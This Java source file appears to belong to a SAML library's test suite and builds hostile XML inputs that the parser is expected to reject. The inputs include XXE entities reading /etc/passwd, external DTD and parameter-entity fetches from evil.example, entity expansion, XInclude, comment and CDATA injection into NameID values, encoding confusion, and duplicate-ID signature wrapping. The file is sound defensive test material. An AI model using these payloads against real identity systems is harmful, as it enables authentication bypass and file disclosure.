package muster.identity.saml;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.List;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/** Constructions of XML and of its encodings that two readers could read in two ways. */
public final class XmlTricks {
    private static final String PERSON = ">" + Draft.PERSON + "<";

    private final Scene scene;
    private final List<Attack> attacks = new ArrayList<>();

    private XmlTricks(Scene scene) {
        this.scene = scene;
    }

    public static List<Attack> all(Scene scene) {
        var tricks = new XmlTricks(scene);
        for (var what : Scene.Signed.values()) {
            tricks.names(what);
            tricks.documentTypes(what);
            tricks.encodings(what);
            tricks.nodes(what);
        }
        tricks.signedTricks();
        tricks.nonsense();
        return tricks.attacks;
    }

    /** Names that end where a careless reader stops. */
    private void names(Scene.Signed what) {
        for (var name :
                List.of(
                        "admin@acme.example<!---->.evil.example",
                        "<!---->grace@acme.example",
                        "grace@acme.example<!-- -->",
                        "<![CDATA[admin@acme.example]]>",
                        "gr<![CDATA[ace]]>@acme.example",
                        "<?x?>grace@acme.example",
                        "grace<?x y?>@acme.example")) {
            replaced("name " + name + " " + what, what, PERSON, ">" + name + "<", "forbidden-xml");
        }
    }

    private void documentTypes(Scene.Signed what) {
        for (var type :
                List.of(
                        "<!DOCTYPE x>",
                        "<!DOCTYPE x [<!ENTITY e 'admin@acme.example'>]>",
                        "<!DOCTYPE x SYSTEM \"http://evil.example/x.dtd\">",
                        "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
                        "<!DOCTYPE x [<!ENTITY % p SYSTEM \"http://evil.example/p\"> %p;]>",
                        "<!DOCTYPE x [<!ATTLIST Assertion ID ID #IMPLIED>]>",
                        "<!DOCTYPE x [<!ENTITY a 'aa'><!ENTITY b '&a;&a;&a;&a;'>"
                                + "<!ENTITY e '&b;&b;&b;&b;'>]>",
                        "<!doctype x>")) {
            var xml = Sealing.write(scene.signed(what));
            add(type + " " + what, type + xml, "forbidden-xml");
            add(type + " used " + what, type + xml.replace(PERSON, ">&e;<"), "forbidden-xml");
        }
    }

    private void encodings(Scene.Signed what) {
        var xml = Sealing.write(scene.signed(what));
        for (var other :
                List.of(
                        StandardCharsets.UTF_16,
                        StandardCharsets.UTF_16LE,
                        StandardCharsets.UTF_16BE,
                        Charset.forName("UTF-32"),
                        Charset.forName("IBM037"))) {
            bytes(other + " " + what, xml.getBytes(other), "malformed-xml");
            bytes(
                    other + " and said so " + what,
                    ("<?xml version='1.0' encoding='" + other + "'?>" + xml).getBytes(other),
                    "malformed-xml");
        }
        for (var said : List.of("UTF-7", "UTF-16", "ISO-8859-1", "IBM037", "x-none")) {
            add(
                    "said to be " + said + " " + what,
                    "<?xml version='1.0' encoding='" + said + "'?>" + xml,
                    "malformed-xml");
        }
        add(
                "UTF-7 " + what,
                "<?xml version='1.0' encoding='UTF-7'?>"
                        + xml.replace("<", "+ADw-").replace(">", "+AD4-"),
                "malformed-xml");
        add("XML 1.1 " + what, "<?xml version='1.1'?>" + xml, "malformed-xml");
        add("byte order mark " + what, "\ufeff" + xml, "malformed-xml");
        bytes(
                "too long form of a letter " + what,
                spliced(xml, new byte[] {(byte) 0xc1, (byte) 0xa1}),
                "malformed-xml");
        bytes("half a letter " + what, spliced(xml, new byte[] {(byte) 0xc3}), "malformed-xml");
        bytes(
                "half of a pair " + what,
                spliced(xml, new byte[] {(byte) 0xed, (byte) 0xa0, (byte) 0x80}),
                "malformed-xml");
        bytes("NUL " + what, spliced(xml, new byte[] {0}), "malformed-xml");
        replaced(
                "NUL by number " + what,
                what,
                PERSON,
                ">&#0;" + Draft.PERSON + "<",
                "malformed-xml");
    }

    private static byte[] spliced(String xml, byte[] into) {
        var at = xml.indexOf(PERSON) + 1;
        var bytes = xml.getBytes(StandardCharsets.UTF_8);
        var spliced = Arrays.copyOf(bytes, bytes.length + into.length);
        System.arraycopy(into, 0, spliced, at, into.length);
        System.arraycopy(bytes, at, spliced, at + into.length, bytes.length - at);
        return spliced;
    }

    private void nodes(Scene.Signed what) {
        var xml = Sealing.write(scene.signed(what));
        add("instruction before " + what, "<?x y?>" + xml, "forbidden-xml");
        add("instruction after " + what, xml + "<?x y?>", "forbidden-xml");
        add("second root " + what, xml + xml, "malformed-xml");
        add("text after " + what, xml + "x", "malformed-xml");
        add("cut " + what, xml.substring(0, xml.length() / 2), "malformed-xml");
        var id = scene.draft().part("assertion-id");
        for (var attribute :
                List.of(
                        "xml:id=\"" + id + "\"",
                        "xml:base=\"http://evil.example/\"",
                        "xml:lang=\"en\"",
                        "xmlns:r=\"relative\"",
                        "Id=\"" + id + "\"",
                        "id=\"" + id + "\"",
                        "AssertionID=\"" + id + "\"",
                        "xmlns:u=\"urn:u\" u:Id=\"" + id + "\"",
                        "xmlns:i=\"http://www.w3.org/2001/XMLSchema-instance\""
                                + " i:schemaLocation=\"urn:x http://evil.example/x.xsd\"",
                        "xmlns:i=\"http://www.w3.org/2001/XMLSchema-instance\" i:type=\"x\"")) {
            for (var name : List.of("samlp:Status", "saml:Subject", "ds:Signature")) {
                replaced(
                        attribute + " on " + name + " " + what,
                        what,
                        "<" + name,
                        "<" + name + " " + attribute,
                        "forbidden-xml",
                        "unexpected-shape",
                        "signature-profile",
                        "duplicate-id");
            }
        }
        replaced(
                "XInclude " + what,
                what,
                PERSON,
                "><i:include xmlns:i=\"http://www.w3.org/2001/XInclude\" parse=\"text\""
                        + " href=\"file:///etc/passwd\"/><",
                "unexpected-shape");
        replaced(
                "attribute twice " + what,
                what,
                " Version=",
                " Version=\"2.0\" Version=",
                "malformed-xml");
    }

    /** What an identity provider was talked into signing. */
    private void signedTricks() {
        for (var name :
                List.of(
                        "",
                        " ",
                        "grace@acme.example ",
                        " grace@acme.example",
                        "grace @acme.example",
                        "grace@acme.example&#10;",
                        "grace@acme.example&#9;x",
                        "grace@acme.example\u0085",
                        "grace@acme.example\u200b",
                        "\u202egrace@acme.example",
                        "grace\u00a0@acme.example",
                        "grace@acme.example\u2028",
                        "gra\ufeffce@acme.example",
                        "g".repeat(257))) {
            for (var what : Scene.Signed.values()) {
                add(
                        "signed name '" + name + "' " + what,
                        Sealing.write(
                                scene.signed(
                                        scene.draft().set("name-id", name), what, scene.way())),
                        name.isBlank() ? "name-id-missing" : "name-id-malformed");
            }
        }
    }

    private void nonsense() {
        var honest = Sealing.base64(Sealing.write(scene.signed(Scene.Signed.BOTH)));
        for (var letter : List.of("-", "!", "=", "\u00e4")) {
            attacks.add(
                    new Attack(
                            "a letter that is no base64: " + letter,
                            honest.substring(0, 40) + letter + honest.substring(40),
                            Set.of("not-base64")));
        }
        for (var form :
                List.of("", " ", "=", "%", "PHNhbWw+", "a", "ab=c", "<x/>", "-_-_", "\u0000")) {
            attacks.add(
                    new Attack(
                            "field '" + form + "'", form, Set.of("not-base64", "malformed-xml")));
        }
        for (var xml :
                List.of(
                        "<",
                        "<a/>",
                        "x",
                        "<a></b>",
                        "{}",
                        "<!-- -->",
                        "<Response/>",
                        "<Response xmlns='urn:oasis:names:tc:SAML:2.0:assertion'/>",
                        "<Assertion xmlns='urn:oasis:names:tc:SAML:2.0:assertion'/>",
                        "<Response xmlns='urn:oasis:names:tc:SAML:1.0:protocol'/>")) {
            add("text " + xml, xml, "malformed-xml", "unexpected-shape");
        }
    }

    private void replaced(
            String name, Scene.Signed what, String old, String now, String... reasons) {
        var xml = Sealing.write(scene.signed(what));
        var changed = xml.replaceFirst(Pattern.quote(old), Matcher.quoteReplacement(now));
        if (changed.equals(xml)) {
            throw new IllegalStateException(old + " is not in " + xml);
        }
        add(name, changed, reasons);
    }

    private void add(String name, String xml, String... reasons) {
        bytes(name, xml.getBytes(StandardCharsets.UTF_8), reasons);
    }

    private void bytes(String name, byte[] bytes, String... reasons) {
        attacks.add(new Attack(name, Base64.getEncoder().encodeToString(bytes), Set.of(reasons)));
    }
}
